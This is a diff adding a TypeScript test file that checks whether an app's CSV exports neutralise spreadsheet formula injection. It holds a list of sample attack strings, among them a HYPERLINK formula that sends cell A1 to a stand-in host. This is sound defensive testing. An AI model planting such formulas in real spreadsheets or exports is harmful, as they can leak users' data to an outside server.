@@ -1,0 +1,56 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { bacaBerkas } from '$lib/import/table/file';
+import { parseCsv } from '$lib/import/table/csv';
+import { csvEkspor, tanpaPenetralRumus, teksCsvAman } from '$lib/import/table/csv-export';
+import { ekspor } from '$lib/import/master/file';
+import { AWAL_RUMUS } from '$lib/import/table/xlsx-write';
+
+const SERANGAN = [
+	'=HYPERLINK("http://contoh.invalid?x="&A1,"Klik")',
+	'@SUM(1+1)',
+	'\t=1+1',
+	'＝1+1'
+];
+
+describe('every CSV the app writes', () => {
+	it('neutralises formula text in a master-data export, as in the reports', () => {
+		const unit = {
+			id: 'u1',
+			nama: SERANGAN[0]!,
+			singkatan: '',
+			jenis: 'dinas' as const,
+			dinilaiIndeks: true,
+			layananSkm: false
+		};
+		const berkas = ekspor('unit', [unit], 'csv', '2026-12-06');
+		const cells = parseCsv(new TextDecoder().decode(berkas.isi)).rows[0]!.cells;
+		expect(cells).toContain(`'${SERANGAN[0]}`);
+		expect(cells.some((c) => AWAL_RUMUS.test(c))).toBe(false);
+	});
+
+	it('keeps numbers as numbers, negative ones too', () => {
+		const text = csvEkspor(['a', 'b'], [[-2.5, 'Antrean lama - mohon ditambah']]);
+		expect(parseCsv(text).rows[0]!.cells).toEqual(['-2,5', 'Antrean lama - mohon ditambah']);
+	});
+
+	it('reads back exactly the text it wrote, whatever the text', () => {
+		const teks = fc.oneof(
+			fc.string(),
+			fc.constantFrom(...SERANGAN, "'=1", "''@x", "'plain"),
+			fc.tuple(fc.constantFrom("'", "''", '='), fc.string()).map(([a, b]) => a + b)
+		);
+		fc.assert(
+			fc.property(teks, (s) => {
+				expect(tanpaPenetralRumus(teksCsvAman(s))).toBe(s);
+				expect(AWAL_RUMUS.test(teksCsvAman(s))).toBe(false);
+			})
+		);
+	});
+
+	it('takes the apostrophe off when such a CSV is imported', () => {
+		const bytes = new TextEncoder().encode(csvEkspor(['nama'], [[SERANGAN[1]!]]));
+		const hasil = bacaBerkas('x.csv', bytes);
+		expect(hasil.ok && hasil.tabel.rows[0]!.cells[0]).toBe(SERANGAN[1]);
+	});
+});
